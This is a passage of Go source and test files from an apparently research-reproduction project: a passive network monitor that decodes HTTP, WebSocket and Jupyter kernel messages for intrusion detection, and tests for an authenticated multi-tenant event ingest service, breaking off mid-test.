			leaked = true
		}
	}
	if !leaked {
		t.Fatal("token-in-URL not observed on wire")
	}
}

// TestAsyncMonitorStage drives a tapped server whose monitor emits
// through a bounded async stage and checks the engine still sees the
// wire-derived exec event — the pipeline-v2 live topology.
func TestAsyncMonitorStage(t *testing.T) {
	cfg := FullVisibility()
	cfg.AsyncWorkers = 1 // preserve per-connection ordering
	cfg.AsyncQueue = 256
	c, mon, done := tappedServer(t, cfg)
	eng := core.MustEngine()
	mon.Bus().Subscribe(eng)

	drive(t, c)
	settle()
	done()
	mon.Close() // drain the stage before asserting

	if mon.Dropped() != 0 {
		t.Fatalf("stage dropped %d events under Block policy", mon.Dropped())
	}
	vis := mon.Visibility()
	if vis.JupyterMessages == 0 {
		t.Fatalf("async monitor lost jupyter visibility: %+v", vis)
	}
	// Everything the analyzers decoded must have reached the engine:
	// at least the HTTP requests and Jupyter messages, plus conn open.
	if eng.Stats().Events < uint64(vis.HTTPRequests) {
		t.Fatalf("engine saw %d events, wire decoded %d http requests",
			eng.Stats().Events, vis.HTTPRequests)
	}
}
