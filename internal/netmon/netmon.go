// Package netmon is the paper's proposed Jupyter network monitoring
// tool: a Zeek-like passive analyzer that taps TCP connections and
// climbs the protocol ladder — connection accounting, HTTP request
// parsing, WebSocket frame decoding, and Jupyter protocol message
// extraction — emitting Zeek-style typed log records and trace events
// at every layer it can see.
//
// The layered design makes the paper's observability argument
// measurable: with TLS simulated the monitor is blind above the
// connection layer; without WebSocket support it stops at HTTP; only
// the full ladder reveals execute_requests. Visibility counters record
// exactly what each layer could and could not decode.
package netmon

import (
	"bufio"
	"errors"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"

	"repro/internal/jmsg"
	"repro/internal/trace"
	"repro/internal/wsproto"
)

// Config controls monitor capability, mirroring real-world deployment
// constraints.
type Config struct {
	// SimulateTLS blinds the monitor above the connection layer (the
	// "encrypted datagrams" condition).
	SimulateTLS bool
	// ParseWebSocket enables the WebSocket analyzer (Zeek gained this
	// only with PR #3555).
	ParseWebSocket bool
	// ParseJupyter enables Jupyter message extraction from WS frames.
	ParseJupyter bool

	// AsyncWorkers > 0 decouples the wire analyzers from downstream
	// detectors: events are queued into a bounded trace.Stage drained
	// by this many workers instead of being delivered synchronously on
	// the analyzer goroutine. Use 1 to keep per-connection ordering.
	AsyncWorkers int
	// AsyncQueue bounds the stage queue (default 1024).
	AsyncQueue int
	// AsyncDrop selects the overflow policy (default trace.Block:
	// analyzers backpressure rather than lose events).
	AsyncDrop trace.DropPolicy
}

// FullVisibility returns a monitor config with every analyzer enabled.
func FullVisibility() Config {
	return Config{ParseWebSocket: true, ParseJupyter: true}
}

// Zeek-style typed log records.

// ConnRecord is one connection (conn.log).
type ConnRecord struct {
	ID       uint64
	SrcIP    string
	SrcPort  int
	BytesIn  int64
	BytesOut int64
	Upgraded bool
	Closed   bool
}

// HTTPRecord is one HTTP request seen on the wire (http.log).
type HTTPRecord struct {
	ConnID     uint64
	Method     string
	Path       string
	Host       string
	UserAgent  string
	HasAuth    bool
	TokenInURL bool
	Upgrade    bool
	Status     int // 101 when upgrade observed; 0 = response not parsed
}

// WSRecord is one WebSocket frame (websocket.log).
type WSRecord struct {
	ConnID     uint64
	FromClient bool
	Opcode     string
	Length     int
	Fin        bool
}

// JupyterRecord is one Jupyter protocol message (jupyter.log) — the
// log stream the paper says no existing tool produces.
type JupyterRecord struct {
	ConnID     uint64
	FromClient bool
	MsgType    string
	Channel    string
	Session    string
	CodeSize   int
}

// Visibility counts what each analyzer layer decoded.
type Visibility struct {
	Conns            uint64
	BytesTotal       uint64
	HTTPRequests     uint64
	WSFrames         uint64
	JupyterMessages  uint64
	JupyterParseFail uint64
	OpaqueBytes      uint64 // bytes the configuration could not interpret
}

// Monitor is the passive analyzer. Events derived from the wire are
// emitted on its Bus; typed logs accumulate for reports.
type Monitor struct {
	cfg   Config
	bus   *trace.Bus
	out   trace.Sink // bus directly, or a Stage in front of it
	stage *trace.Stage
	mu    sync.Mutex
	conns map[uint64]*ConnRecord
	http  []HTTPRecord
	ws    []WSRecord
	jup   []JupyterRecord
	vis   Visibility
	seq   uint64
}

// NewMonitor returns a Monitor emitting events on bus (a fresh bus is
// created if nil). With cfg.AsyncWorkers > 0 the emissions flow
// through a bounded async Stage; call Close to drain it.
func NewMonitor(cfg Config, bus *trace.Bus) *Monitor {
	if bus == nil {
		bus = trace.NewBus(nil)
	}
	m := &Monitor{cfg: cfg, bus: bus, conns: map[uint64]*ConnRecord{}}
	m.out = bus
	if cfg.AsyncWorkers > 0 {
		m.stage = trace.NewStage(bus, cfg.AsyncWorkers, cfg.AsyncQueue, cfg.AsyncDrop)
		m.out = m.stage
	}
	return m
}

// Bus returns the monitor's event bus (subscribe detectors here).
func (m *Monitor) Bus() *trace.Bus { return m.bus }

// Close drains the async stage, if any. After Close, late analyzer
// emissions are counted as dropped instead of delivered.
func (m *Monitor) Close() {
	if m.stage != nil {
		m.stage.Close()
	}
}

// Dropped reports events lost to stage overflow (always 0 when the
// monitor is synchronous or uses trace.Block).
func (m *Monitor) Dropped() uint64 {
	if m.stage == nil {
		return 0
	}
	return m.stage.Dropped()
}

// Visibility returns a snapshot of visibility counters.
func (m *Monitor) Visibility() Visibility {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.vis
}

// HTTPLog returns the accumulated http.log records.
func (m *Monitor) HTTPLog() []HTTPRecord {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]HTTPRecord, len(m.http))
	copy(out, m.http)
	return out
}

// WSLog returns the accumulated websocket.log records.
func (m *Monitor) WSLog() []WSRecord {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]WSRecord, len(m.ws))
	copy(out, m.ws)
	return out
}

// JupyterLog returns the accumulated jupyter.log records.
func (m *Monitor) JupyterLog() []JupyterRecord {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]JupyterRecord, len(m.jup))
	copy(out, m.jup)
	return out
}

// ConnLog returns the accumulated conn.log records.
func (m *Monitor) ConnLog() []ConnRecord {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]ConnRecord, 0, len(m.conns))
	for _, c := range m.conns {
		out = append(out, *c)
	}
	return out
}

// WrapListener returns a listener whose accepted connections are
// tapped by the monitor — the deployment point "at the network edge".
func (m *Monitor) WrapListener(ln net.Listener) net.Listener {
	return &tapListener{Listener: ln, mon: m}
}

type tapListener struct {
	net.Listener
	mon *Monitor
}

func (tl *tapListener) Accept() (net.Conn, error) {
	c, err := tl.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return tl.mon.tap(c), nil
}

// tap wraps a connection, teeing both directions into analyzers.
func (m *Monitor) tap(c net.Conn) net.Conn {
	id := atomic.AddUint64(&m.seq, 1)
	srcIP, srcPort := splitAddr(c.RemoteAddr())
	rec := &ConnRecord{ID: id, SrcIP: srcIP, SrcPort: srcPort}
	m.mu.Lock()
	m.conns[id] = rec
	m.vis.Conns++
	m.mu.Unlock()
	m.out.Emit(trace.Event{
		Kind: trace.KindConn, Op: "open", SrcIP: srcIP, SrcPort: srcPort, Success: true,
		Fields: map[string]string{"conn_id": strconv.FormatUint(id, 10)},
	})

	tc := &tapConn{Conn: c, mon: m, rec: rec}
	if m.cfg.SimulateTLS {
		// Encrypted: byte counting only — the Zeek-without-decryption
		// condition. No pipes, no analyzers.
		return tc
	}
	clientR, clientW := io.Pipe()
	serverR, serverW := io.Pipe()
	tc.clientW, tc.serverW = clientW, serverW
	go m.analyzeClient(id, rec, clientR)
	go m.analyzeServer(id, rec, serverR)
	return tc
}

func splitAddr(a net.Addr) (string, int) {
	if a == nil {
		return "", 0
	}
	host, portStr, err := net.SplitHostPort(a.String())
	if err != nil {
		return a.String(), 0
	}
	port, _ := strconv.Atoi(portStr)
	return host, port
}

// tapConn tees reads (client->server bytes) and writes
// (server->client bytes) into the analyzer pipes.
type tapConn struct {
	net.Conn
	mon       *Monitor
	rec       *ConnRecord
	clientW   *io.PipeWriter
	serverW   *io.PipeWriter
	closeOnce sync.Once
}

func (t *tapConn) Read(p []byte) (int, error) {
	n, err := t.Conn.Read(p)
	if n > 0 {
		t.mon.addBytes(t.rec, int64(n), 0)
		if t.clientW != nil {
			_, _ = t.clientW.Write(p[:n])
		}
	}
	// net/http aborts its background connection reads with a past
	// deadline; those transient timeouts must not end the analysis —
	// the connection is still alive and more bytes will follow.
	if err != nil && !isTimeout(err) && t.clientW != nil {
		t.clientW.CloseWithError(err)
	}
	return n, err
}

func (t *tapConn) Write(p []byte) (int, error) {
	n, err := t.Conn.Write(p)
	if n > 0 {
		t.mon.addBytes(t.rec, 0, int64(n))
		if t.serverW != nil {
			_, _ = t.serverW.Write(p[:n])
		}
	}
	if err != nil && !isTimeout(err) && t.serverW != nil {
		t.serverW.CloseWithError(err)
	}
	return n, err
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

func (t *tapConn) Close() error {
	t.closeOnce.Do(func() {
		if t.clientW != nil {
			t.clientW.Close()
		}
		if t.serverW != nil {
			t.serverW.Close()
		}
		t.mon.mu.Lock()
		t.rec.Closed = true
		t.mon.mu.Unlock()
	})
	return t.Conn.Close()
}

func (m *Monitor) addBytes(rec *ConnRecord, in, out int64) {
	m.mu.Lock()
	rec.BytesIn += in
	rec.BytesOut += out
	m.vis.BytesTotal += uint64(in + out)
	if m.cfg.SimulateTLS {
		m.vis.OpaqueBytes += uint64(in + out)
	}
	m.mu.Unlock()
}

// analyzeClient parses the client->server byte stream: HTTP requests,
// then WebSocket frames after an upgrade request.
func (m *Monitor) analyzeClient(connID uint64, rec *ConnRecord, r *io.PipeReader) {
	defer r.Close()
	br := bufio.NewReader(r)
	for {
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		hrec := HTTPRecord{
			ConnID: connID, Method: req.Method, Path: req.URL.RequestURI(),
			Host: req.Host, UserAgent: req.Header.Get("User-Agent"),
			HasAuth:    req.Header.Get("Authorization") != "",
			TokenInURL: req.URL.Query().Get("token") != "",
			Upgrade:    wsproto.IsUpgradeRequest(req),
		}
		if hrec.Upgrade {
			hrec.Status = http.StatusSwitchingProtocols
		}
		m.mu.Lock()
		m.http = append(m.http, hrec)
		m.vis.HTTPRequests++
		m.mu.Unlock()
		m.out.Emit(trace.Event{
			Kind: trace.KindHTTP, Method: hrec.Method, Path: hrec.Path,
			Status: hrec.Status, SrcIP: rec.SrcIP, SrcPort: rec.SrcPort,
			Success: true,
			Fields: map[string]string{
				"conn_id": strconv.FormatUint(connID, 10),
				"wire":    "true",
			},
		})
		if hrec.Upgrade {
			m.mu.Lock()
			rec.Upgraded = true
			m.mu.Unlock()
			m.analyzeWS(connID, rec, br, true)
			return
		}
		// Drain the request body so the next request parses.
		if req.Body != nil {
			_, _ = io.Copy(io.Discard, req.Body)
			req.Body.Close()
		}
	}
}

// analyzeServer scans the server->client stream for the 101 response
// and then decodes server WebSocket frames. Regular response bodies
// are skipped line-wise (Zeek-style best effort).
func (m *Monitor) analyzeServer(connID uint64, rec *ConnRecord, r *io.PipeReader) {
	defer r.Close()
	br := bufio.NewReader(r)
	for {
		line, err := br.ReadString('\n')
		if err != nil {
			return
		}
		if !strings.HasPrefix(line, "HTTP/1.") {
			continue
		}
		if strings.Contains(line, " 101 ") {
			// Consume handshake headers until blank line, then frames.
			for {
				h, err := br.ReadString('\n')
				if err != nil {
					return
				}
				if h == "\r\n" || h == "\n" {
					m.analyzeWS(connID, rec, br, false)
					return
				}
			}
		}
	}
}

// analyzeWS decodes WebSocket frames from one direction and, when
// enabled, extracts Jupyter messages from text frames.
func (m *Monitor) analyzeWS(connID uint64, rec *ConnRecord, br *bufio.Reader, fromClient bool) {
	if !m.cfg.ParseWebSocket {
		// Count the remaining bytes as opaque.
		n, _ := io.Copy(io.Discard, br)
		m.mu.Lock()
		m.vis.OpaqueBytes += uint64(n)
		m.mu.Unlock()
		return
	}
	fr := wsproto.NewFrameReader(br, 0)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		wrec := WSRecord{
			ConnID: connID, FromClient: fromClient,
			Opcode: f.Opcode.String(), Length: len(f.Payload), Fin: f.Fin,
		}
		m.mu.Lock()
		m.ws = append(m.ws, wrec)
		m.vis.WSFrames++
		m.mu.Unlock()
		m.out.Emit(trace.Event{
			Kind: trace.KindWSFrame, WSOpcode: wrec.Opcode,
			Bytes: int64(wrec.Length), SrcIP: rec.SrcIP, SrcPort: rec.SrcPort,
			Success: true,
			Fields: map[string]string{
				"conn_id":     strconv.FormatUint(connID, 10),
				"from_client": strconv.FormatBool(fromClient),
			},
		})
		if f.Opcode != wsproto.OpText || !f.Fin {
			continue
		}
		if !m.cfg.ParseJupyter {
			m.mu.Lock()
			m.vis.OpaqueBytes += uint64(len(f.Payload))
			m.mu.Unlock()
			continue
		}
		msg, err := jmsg.UnmarshalWS(f.Payload)
		if err != nil || msg.Header.MsgType == "" {
			m.mu.Lock()
			m.vis.JupyterParseFail++
			m.mu.Unlock()
			continue
		}
		jrec := JupyterRecord{
			ConnID: connID, FromClient: fromClient,
			MsgType: msg.Header.MsgType, Channel: string(msg.Channel),
			Session: msg.Header.Session,
		}
		ev := trace.Event{
			Kind: trace.KindKernMsg, MsgType: jrec.MsgType, Channel: jrec.Channel,
			Session: jrec.Session, SrcIP: rec.SrcIP, SrcPort: rec.SrcPort,
			Bytes: int64(len(f.Payload)), Success: true,
			Fields: map[string]string{
				"conn_id":     strconv.FormatUint(connID, 10),
				"from_client": strconv.FormatBool(fromClient),
				"wire":        "true",
			},
		}
		// Deep inspection: surface executed code so wire-level
		// signature rules (miner strings, encrypt calls) can fire
		// without host instrumentation.
		if msg.Header.MsgType == jmsg.TypeExecuteRequest {
			var er jmsg.ExecuteRequest
			if msg.DecodeContent(&er) == nil {
				jrec.CodeSize = len(er.Code)
				ev.Kind = trace.KindExec
				ev.Code = er.Code
				ev.User = msg.Header.Username
			}
		}
		m.mu.Lock()
		m.jup = append(m.jup, jrec)
		m.vis.JupyterMessages++
		m.mu.Unlock()
		m.out.Emit(ev)
	}
}

// VisibilityLadder describes, for a given config, which layers are
// observable — the data behind the paper's observability table.
type VisibilityLadder struct {
	ConnLayer    bool
	HTTPLayer    bool
	WSLayer      bool
	JupyterLayer bool
}

// Ladder reports the layers this monitor's configuration can see.
func (m *Monitor) Ladder() VisibilityLadder {
	return VisibilityLadder{
		ConnLayer:    true,
		HTTPLayer:    !m.cfg.SimulateTLS,
		WSLayer:      !m.cfg.SimulateTLS && m.cfg.ParseWebSocket,
		JupyterLayer: !m.cfg.SimulateTLS && m.cfg.ParseWebSocket && m.cfg.ParseJupyter,
	}
}
