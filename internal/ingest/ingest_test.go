package ingest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/auth"
	"repro/internal/core"
	"repro/internal/evstore"
	"repro/internal/trace"
	"repro/internal/wsproto"
)

// collector is a thread-safe sink recording every delivered event.
type collector struct {
	mu     sync.Mutex
	events []trace.Event
}

func (c *collector) Emit(e trace.Event) {
	c.mu.Lock()
	c.events = append(c.events, e)
	c.mu.Unlock()
}

func (c *collector) snapshot() []trace.Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]trace.Event(nil), c.events...)
}

func testKeyring(t *testing.T, tenants ...string) *auth.Keyring {
	t.Helper()
	kr := auth.NewKeyring()
	for i, name := range tenants {
		if err := kr.AddTenant(name, []byte(fmt.Sprintf("secret-%d-%s", i, name))); err != nil {
			t.Fatalf("AddTenant(%s): %v", name, err)
		}
	}
	return kr
}

func startService(t *testing.T, cfg Config, sink trace.Sink) (*Service, string) {
	t.Helper()
	svc := New(cfg, sink)
	addr, err := svc.Start("127.0.0.1:0")
	if err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(svc.Drain)
	return svc, addr
}

func jsonlBody(t *testing.T, events ...trace.Event) []byte {
	t.Helper()
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	for _, e := range events {
		if err := enc.Encode(e); err != nil {
			t.Fatalf("encode: %v", err)
		}
	}
	return buf.Bytes()
}

func postBatch(t *testing.T, addr, tenant, token string, body []byte) (*http.Response, batchResponse) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/ingest", bytes.NewReader(body))
	if err != nil {
		t.Fatalf("NewRequest: %v", err)
	}
	req.Header.Set("X-Tenant", tenant)
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("POST /ingest: %v", err)
	}
	defer resp.Body.Close()
	var br batchResponse
	_ = json.NewDecoder(resp.Body).Decode(&br)
	return resp, br
}

func dialWS(t *testing.T, addr, tenant, token string) *wsproto.Conn {
	t.Helper()
	raw, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	hdr := http.Header{}
	hdr.Set("X-Tenant", tenant)
	hdr.Set("Authorization", "Bearer "+token)
	conn, err := wsproto.Dial(raw, addr, "/ingest/ws", hdr)
	if err != nil {
		raw.Close()
		t.Fatalf("ws dial: %v", err)
	}
	return conn
}

func TestHTTPIngestNamespacesAndStamps(t *testing.T) {
	kr := testKeyring(t, "alpha")
	sink := &collector{}
	svc, addr := startService(t, Config{Keyring: kr}, sink)
	tok, _ := kr.Mint("alpha")

	body := jsonlBody(t,
		trace.Event{Kind: trace.KindHTTP, SrcIP: "10.0.0.9", User: "alice", Method: "GET", Path: "/api"},
		trace.Event{Kind: trace.KindExec, KernelID: "k1", User: "alice", Code: "print(1)"},
		trace.Event{Kind: trace.KindNetOp, Op: "connect"}, // no identity at all
	)
	resp, br := postBatch(t, addr, "alpha", tok, body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d, want 200", resp.StatusCode)
	}
	if br.Accepted != 3 || br.Denied != 0 {
		t.Fatalf("batch response = %+v, want accepted=3 denied=0", br)
	}

	svc.Drain()
	got := sink.snapshot()
	if len(got) != 3 {
		t.Fatalf("sink saw %d events, want 3", len(got))
	}
	if got[0].SrcIP != "alpha/10.0.0.9" || got[0].User != "alpha/alice" {
		t.Errorf("event 0 not namespaced: src=%q user=%q", got[0].SrcIP, got[0].User)
	}
	if got[1].KernelID != "alpha/k1" {
		t.Errorf("event 1 kernel = %q, want alpha/k1", got[1].KernelID)
	}
	if got[2].User != "alpha/-" {
		t.Errorf("identity-free event attributed to %q, want alpha/-", got[2].User)
	}
	var lastSeq uint64
	for i, e := range got {
		if e.Seq <= lastSeq {
			t.Errorf("event %d seq %d not increasing (prev %d)", i, e.Seq, lastSeq)
		}
		lastSeq = e.Seq
		if e.Time.IsZero() {
			t.Errorf("event %d has zero time after stamping", i)
		}
	}

	st := svc.Stats()
	if len(st.Tenants) != 1 || st.Tenants[0].Tenant != "alpha" {
		t.Fatalf("stats tenants = %+v", st.Tenants)
	}
	ts := st.Tenants[0]
	if ts.Accepted != 3 || ts.Processed != 3 || ts.Dropped != 0 || ts.Denied != 0 {
		t.Errorf("tenant counters after drain = %+v, want accepted=processed=3", ts)
	}
}

func TestAuthFailureRejectedAndSelfMonitored(t *testing.T) {
	kr := testKeyring(t, "alpha")
	sink := &collector{}
	svc, addr := startService(t, Config{Keyring: kr}, sink)

	cases := []struct{ tenant, token string }{
		{"alpha", "deadbeef"}, // wrong token
		{"alpha", ""},         // missing token
		{"ghost", "deadbeef"}, // unknown tenant
		{"", "deadbeef"},      // missing tenant header
	}
	for _, tc := range cases {
		resp, _ := postBatch(t, addr, tc.tenant, tc.token, jsonlBody(t, trace.Event{Kind: trace.KindHTTP}))
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("tenant=%q token=%q: status %d, want 401", tc.tenant, tc.token, resp.StatusCode)
		}
	}

	svc.Drain()
	st := svc.Stats()
	if st.AuthFailures != uint64(len(cases)) {
		t.Errorf("AuthFailures = %d, want %d", st.AuthFailures, len(cases))
	}
	if len(st.Tenants) != 0 {
		t.Errorf("failed auth created tenant state: %+v", st.Tenants)
	}
	// Every denial must appear in the pipeline as a KindAuth event so
	// AT-001 bruteforce detection covers the ingest endpoint itself.
	var denials int
	for _, e := range sink.snapshot() {
		if e.Kind == trace.KindAuth && !e.Success && strings.HasPrefix(e.SrcIP, "ingest/") {
			denials++
		}
	}
	if denials != len(cases) {
		t.Errorf("pipeline saw %d ingest auth denials, want %d", denials, len(cases))
	}
}

func TestQuotaDeniesOverBudget(t *testing.T) {
	kr := testKeyring(t, "alpha")
	sink := &collector{}
	svc, addr := startService(t, Config{
		Keyring: kr,
		Policy:  trace.DropNewest,
		Rate:    1, // 1 ev/sec
		Burst:   3,
	}, sink)
	tok, _ := kr.Mint("alpha")

	var events []trace.Event
	for i := 0; i < 10; i++ {
		events = append(events, trace.Event{Kind: trace.KindHTTP, SrcIP: "10.0.0.1", Path: fmt.Sprintf("/p/%d", i)})
	}
	resp, br := postBatch(t, addr, "alpha", tok, jsonlBody(t, events...))
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("status = %d, want 429 when quota denies", resp.StatusCode)
	}
	if br.Accepted+br.Denied != 10 {
		t.Fatalf("accepted %d + denied %d != 10 submitted", br.Accepted, br.Denied)
	}
	if br.Accepted > 4 || br.Denied < 6 {
		t.Errorf("burst=3 rate=1 admitted %d of 10; expected roughly the burst", br.Accepted)
	}

	svc.Drain()
	ts := svc.Stats().Tenants[0]
	if int(ts.Accepted)+int(ts.Denied) != 10 {
		t.Errorf("accounting: accepted %d + denied %d != 10", ts.Accepted, ts.Denied)
	}
	if int(ts.Denied) != br.Denied {
		t.Errorf("stats denied %d != response denied %d", ts.Denied, br.Denied)
	}
	if got := len(sink.snapshot()); got != br.Accepted {
		t.Errorf("sink saw %d events, want %d accepted", got, br.Accepted)
	}
}

func TestBlockBackpressureIsLossless(t *testing.T) {
	kr := testKeyring(t, "alpha", "beta")
	// A deliberately slow sink: with Queue=2 and Block policy the
	// producers must stall rather than lose events.
	slow := &collector{}
	slowSink := trace.SinkFunc(func(e trace.Event) {
		time.Sleep(200 * time.Microsecond)
		slow.Emit(e)
	})
	svc, addr := startService(t, Config{Keyring: kr, Policy: trace.Block, Queue: 2}, slowSink)

	const perTenant = 120
	var wg sync.WaitGroup
	for _, tenantName := range []string{"alpha", "beta"} {
		tok, _ := kr.Mint(tenantName)
		wg.Add(1)
		go func(name, token string) {
			defer wg.Done()
			var events []trace.Event
			for i := 0; i < perTenant; i++ {
				events = append(events, trace.Event{Kind: trace.KindHTTP, SrcIP: "10.1.1.1", Path: fmt.Sprintf("/%s/%d", name, i)})
			}
			resp, br := postBatch(t, addr, name, token, jsonlBody(t, events...))
			if resp.StatusCode != http.StatusOK {
				t.Errorf("%s: status %d, want 200", name, resp.StatusCode)
			}
			if br.Accepted != perTenant || br.Denied != 0 {
				t.Errorf("%s: accepted=%d denied=%d, want %d/0", name, br.Accepted, br.Denied, perTenant)
			}
		}(tenantName, tok)
	}
	wg.Wait()
	svc.Drain()

	if got := len(slow.snapshot()); got != 2*perTenant {
		t.Fatalf("sink saw %d events, want %d (Block must be lossless)", got, 2*perTenant)
	}
	for _, ts := range svc.Stats().Tenants {
		if ts.Accepted != perTenant || ts.Processed != perTenant || ts.Dropped != 0 || ts.Denied != 0 {
			t.Errorf("tenant %s: %+v, want lossless accounting", ts.Tenant, ts)
		}
	}
}

func TestWSIngest(t *testing.T) {
	kr := testKeyring(t, "alpha")
	sink := &collector{}
	svc, addr := startService(t, Config{Keyring: kr}, sink)
	tok, _ := kr.Mint("alpha")

	conn := dialWS(t, addr, "alpha", tok)
	for batch := 0; batch < 3; batch++ {
		body := jsonlBody(t,
			trace.Event{Kind: trace.KindHTTP, SrcIP: "9.9.9.9", Path: fmt.Sprintf("/b/%d", batch)},
			trace.Event{Kind: trace.KindExec, KernelID: "kk", Code: "x"},
		)
		if err := conn.WriteMessage(wsproto.OpText, body); err != nil {
			t.Fatalf("WriteMessage: %v", err)
		}
	}
	// Wait for delivery before closing: Close tears down the TCP
	// socket right after the close frame, and the resulting RST could
	// discard data still in the server's receive buffer.
	waitFor(t, func() bool { return len(sink.snapshot()) == 6 })
	if err := conn.Close(wsproto.CloseNormal, "done"); err != nil {
		t.Fatalf("client close: %v", err)
	}
	svc.Drain()

	got := sink.snapshot()
	if len(got) != 6 {
		t.Fatalf("sink saw %d events, want 6", len(got))
	}
	for i, e := range got {
		if !strings.HasPrefix(e.SrcIP+e.KernelID, "alpha/") {
			t.Errorf("event %d not namespaced: %+v", i, e)
		}
	}
}

// TestWSAuthRejectedBeforeUpgrade verifies a bad token never reaches
// the WebSocket handshake.
func TestWSAuthRejectedBeforeUpgrade(t *testing.T) {
	kr := testKeyring(t, "alpha")
	svc, addr := startService(t, Config{Keyring: kr}, &collector{})
	raw, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	defer raw.Close()
	hdr := http.Header{}
	hdr.Set("X-Tenant", "alpha")
	hdr.Set("Authorization", "Bearer wrong")
	if _, err := wsproto.Dial(raw, addr, "/ingest/ws", hdr); err == nil {
		t.Fatal("ws dial with bad token succeeded")
	}
	svc.Drain()
}

func TestWSCloseCodes(t *testing.T) {
	kr := testKeyring(t, "alpha")

	t.Run("oversized message closes 1009", func(t *testing.T) {
		svc, addr := startService(t, Config{Keyring: kr, MaxMessage: 256}, &collector{})
		tok, _ := kr.Mint("alpha")
		conn := dialWS(t, addr, "alpha", tok)
		defer conn.Close(wsproto.CloseNormal, "")
		if err := conn.WriteMessage(wsproto.OpText, bytes.Repeat([]byte("x"), 1024)); err != nil {
			t.Fatalf("WriteMessage: %v", err)
		}
		if _, _, err := conn.ReadMessage(); err == nil {
			t.Fatal("expected close, got message")
		}
		if conn.CloseCode != wsproto.CloseTooBig {
			t.Errorf("close code = %d, want %d", conn.CloseCode, wsproto.CloseTooBig)
		}
		svc.Drain()
	})

	t.Run("unmasked client frame closes 1002", func(t *testing.T) {
		svc, addr := startService(t, Config{Keyring: kr}, &collector{})
		tok, _ := kr.Mint("alpha")
		conn := dialWS(t, addr, "alpha", tok)
		defer conn.Close(wsproto.CloseNormal, "")
		// Bypass the conn writer: an unmasked data frame straight onto
		// the wire violates RFC 6455 §5.1 for clients.
		raw := wsproto.EncodeFrame(true, wsproto.OpText, []byte("{}"), nil)
		if _, err := conn.Underlying().Write(raw); err != nil {
			t.Fatalf("raw write: %v", err)
		}
		if _, _, err := conn.ReadMessage(); err == nil {
			t.Fatal("expected close, got message")
		}
		if conn.CloseCode != wsproto.CloseProtocolError {
			t.Errorf("close code = %d, want %d", conn.CloseCode, wsproto.CloseProtocolError)
		}
		svc.Drain()
	})

	t.Run("malformed event JSON closes 1007", func(t *testing.T) {
		svc, addr := startService(t, Config{Keyring: kr}, &collector{})
		tok, _ := kr.Mint("alpha")
		conn := dialWS(t, addr, "alpha", tok)
		defer conn.Close(wsproto.CloseNormal, "")
		if err := conn.WriteMessage(wsproto.OpText, []byte("this is not json\n")); err != nil {
			t.Fatalf("WriteMessage: %v", err)
		}
		if _, _, err := conn.ReadMessage(); err == nil {
			t.Fatal("expected close, got message")
		}
		if conn.CloseCode != wsproto.CloseInvalidPayload {
			t.Errorf("close code = %d, want %d", conn.CloseCode, wsproto.CloseInvalidPayload)
		}
		svc.Drain()
	})
}

func TestMaxConnsAdmission(t *testing.T) {
	kr := testKeyring(t, "alpha")
	svc, addr := startService(t, Config{Keyring: kr, MaxConns: 1}, &collector{})
	tok, _ := kr.Mint("alpha")

	// Occupy the single slot with a live WS connection.
	conn := dialWS(t, addr, "alpha", tok)
	defer conn.Close(wsproto.CloseNormal, "")
	// The slot is taken once the handler admits; the upgrade response
	// already arrived, so admission has happened.
	waitFor(t, func() bool { return svc.Stats().Conns == 1 })

	resp, _ := postBatch(t, addr, "alpha", tok, jsonlBody(t, trace.Event{Kind: trace.KindHTTP}))
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("status = %d, want 503 at capacity", resp.StatusCode)
	}
	if got := svc.Stats().RejectedConns; got != 1 {
		t.Errorf("RejectedConns = %d, want 1", got)
	}
	svc.Drain()
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatal("condition not reached in 2s")
}

func TestDrainRejectsNewWorkAndFlushesStore(t *testing.T) {
	kr := testKeyring(t, "alpha")
	dir := t.TempDir()
	// Huge FlushEvery: every event sits in the write buffer until the
	// drain path flushes, exactly the signal-loss scenario.
	store, err := evstore.Open(dir, evstore.Options{FlushEvery: 1 << 20})
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	svc, addr := startService(t, Config{Keyring: kr}, store)
	tok, _ := kr.Mint("alpha")

	var events []trace.Event
	for i := 0; i < 57; i++ {
		events = append(events, trace.Event{Kind: trace.KindHTTP, SrcIP: "1.2.3.4", Path: fmt.Sprintf("/%d", i)})
	}
	if resp, br := postBatch(t, addr, "alpha", tok, jsonlBody(t, events...)); resp.StatusCode != 200 || br.Accepted != 57 {
		t.Fatalf("ingest failed: status=%d accepted=%d", resp.StatusCode, br.Accepted)
	}

	svc.Drain()
	// Post-drain requests are refused, not silently dropped.
	if resp, _ := postBatch(t, addr, "alpha", tok, jsonlBody(t, events[0])); resp.StatusCode != http.StatusServiceUnavailable {
		// The listener is closed, so the request usually errors at
		// dial; reaching here means a lingering keep-alive conn, which
		// must still get a 503.
		t.Errorf("post-drain ingest: status %d, want 503", resp.StatusCode)
	}
	if err := store.Close(); err != nil {
